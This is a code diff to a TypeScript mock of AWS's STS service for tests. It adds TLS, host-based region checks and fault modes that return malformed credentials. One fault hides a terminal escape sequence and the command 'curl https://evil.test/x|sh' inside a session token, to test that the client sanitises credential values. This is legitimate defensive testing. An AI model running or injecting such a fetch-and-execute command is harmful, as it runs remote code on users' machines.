@@ -3,6 +3,7 @@
 // AWS's XML and AWS's error texts, and can be told to fail the way networks and servers fail.
 import { randomBytes, randomUUID } from 'node:crypto';
 import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
+import { createServer as createTlsServer } from 'node:https';
 import type { AddressInfo } from 'node:net';
 import type { StsUser } from './fixtures';
 import { amzDateOf, parseAuthorization, type SignableRequest, signatureMatches } from './sigv4';
@@ -18,7 +19,10 @@ export type Fault =
 	| 'malformed' // HTTP 200 with XML that is not STS's
 	| 'captive-portal' // HTTP 200 with a sign-in page
 	| 'throttle' // AWS's Throttling error
-	| 'region-disabled'; // AWS's RegionDisabledException
+	| 'region-disabled' // AWS's RegionDisabledException
+	| 'control-characters' // a session whose token carries kill-line and escape characters as XML references
+	| 'long-term-key' // a session with an AKIA key, which AWS never issues as a session
+	| 'far-expiry'; // a session that claims to last ten years
 
 export interface StsOptions {
 	users: readonly StsUser[];
@@ -33,10 +37,14 @@ export interface StsOptions {
 	 * Signature, serial and once-per-code checks stay on.
 	 */
 	benchmark?: boolean;
+	/** Serve HTTPS with this key and certificate, as AWS's hosts do (see tls.ts). */
+	tls?: { key: string; cert: string };
 }
 
 export interface RecordedRequest {
 	action: string;
+	/** The Host header: which of AWS's names the request was sent to. */
+	host: string;
 	accessKeyId: string | undefined;
 	outcome: string;
 }
@@ -52,6 +60,7 @@ export interface IssuedSession {
 
 export interface StsServer {
 	url: string;
+	port: number;
 	requests: RecordedRequest[];
 	issued: IssuedSession[];
 	resetRequests(): void;
@@ -101,6 +110,13 @@ const randomAlnum = (length: number) => {
 	const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
 	return [...randomBytes(length)].map((byte) => alphabet[byte % alphabet.length]).join('');
 };
+
+/** The region AWS's STS host name implies (the global endpoint signs for us-east-1); undefined for any other host. */
+export function regionOfHost(hostHeader: string): string | undefined {
+	const host = hostHeader.replace(/:\d+$/, '');
+	if (host === 'sts.amazonaws.com') return 'us-east-1';
+	return /^(?:vpce-[a-z0-9-]+\.)?sts(?:-fips)?\.([a-z]{2}(?:-[a-z]+)+-\d+)\.(?:vpce\.)?amazonaws\.com(?:\.cn)?$/.exec(host)?.[1];
+}
 
 /** `YYYYMMDDTHHMMSSZ` to a time. */
 function parseAmzDate(text: string): number | undefined {
@@ -153,8 +169,9 @@ export async function startSts(options: StsOptions): Promise<StsServer> {
 				`Signature not yet current: ${amzDate} is still later than ${amzDateOf(new Date(serverNow + skew))} (${amzDateOf(new Date(serverNow))} + 15 min.)`,
 			);
 		}
+		const expectedRegion = regionOfHost(request.headers.host ?? '') ?? options.region;
 		if (
-			(options.region && auth.scope.region !== options.region) ||
+			(expectedRegion && auth.scope.region !== expectedRegion) ||
 			auth.scope.service !== 'sts' ||
 			auth.scope.date !== amzDate.slice(0, 8)
 		) {
@@ -245,6 +262,19 @@ export async function startSts(options: StsOptions): Promise<StsServer> {
 		return resultXml('GetCallerIdentity', fields, requestId);
 	}
 
+	/** A GetSessionToken answer with well-formed values except those given. */
+	function sessionXml(values: Partial<Omit<IssuedSession, 'user' | 'durationSeconds'>>, requestId: string): string {
+		const session = {
+			accessKeyId: `ASIA${randomAlnum(16)}`,
+			secretAccessKey: randomBytes(30).toString('base64'),
+			sessionToken: `IQoJb3JpZ2luX2VjE${randomBytes(60).toString('base64')}`,
+			expiration: new Date(now() + 3600_000).toISOString(),
+			...values,
+		};
+		const fields = `    <Credentials>\n      <AccessKeyId>${session.accessKeyId}</AccessKeyId>\n      <SecretAccessKey>${session.secretAccessKey}</SecretAccessKey>\n      <SessionToken>${session.sessionToken}</SessionToken>\n      <Expiration>${session.expiration}</Expiration>\n    </Credentials>\n`;
+		return resultXml('GetSessionToken', fields, requestId);
+	}
+
 	/** Canned answers for the faults that do answer: status, content type and body. */
 	function faultAnswer(current: Exclude<Fault, 'hang' | 'reset'>, requestId: string): [number, string, string] {
 		switch (current) {
@@ -281,6 +311,12 @@ export async function startSts(options: StsOptions): Promise<StsServer> {
 				];
 			case 'throttle':
 				return [400, 'text/xml', errorXml(new StsError('Throttling', 'Rate exceeded', 400), requestId)];
+			case 'control-characters':
+				return [200, 'text/xml', sessionXml({ sessionToken: `IQoJb3JpZ2luX2VjE&#21;&#27;[2Kcurl https://evil.test/x|sh&#21;` }, requestId)];
+			case 'long-term-key':
+				return [200, 'text/xml', sessionXml({ accessKeyId: `AKIA${randomAlnum(16)}` }, requestId)];
+			case 'far-expiry':
+				return [200, 'text/xml', sessionXml({ expiration: new Date(now() + 10 * 365 * 86_400_000).toISOString() }, requestId)];
 			case 'region-disabled': {
 				const message =
 					'STS is not activated in this region for account:123456789012. Your account administrator can activate STS in this region using the IAM Console.';
@@ -309,7 +345,7 @@ export async function startSts(options: StsOptions): Promise<StsServer> {
 		);
 		const accessKeyId = /Credential=([^/]+)\//.exec(headers.authorization ?? '')?.[1];
 		const requestId = randomUUID();
-		const record = (outcome: string) => requests.push({ action, accessKeyId, outcome });
+		const record = (outcome: string) => requests.push({ action, host: headers.host ?? '', accessKeyId, outcome });
 		if (fault) {
 			record(fault);
 			misbehave(fault, response, requestId);
@@ -336,14 +372,16 @@ export async function startSts(options: StsOptions): Promise<StsServer> {
 		}
 	}
 
-	const server = createServer((request, response) => {
+	const listener = (request: IncomingMessage, response: ServerResponse) => {
 		handle(request, response).catch(() => response.socket?.destroy());
-	});
+	};
+	const server = options.tls ? createTlsServer(options.tls, listener) : createServer(listener);
 	await new Promise<void>((resolve) => server.listen(options.port ?? 0, '127.0.0.1', resolve));
 	const { port } = server.address() as AddressInfo;
 
 	return {
-		url: `http://127.0.0.1:${port}`,
+		url: `${options.tls ? 'https' : 'http'}://127.0.0.1:${port}`,
+		port,
 		requests,
 		issued,
 		resetRequests: () => {
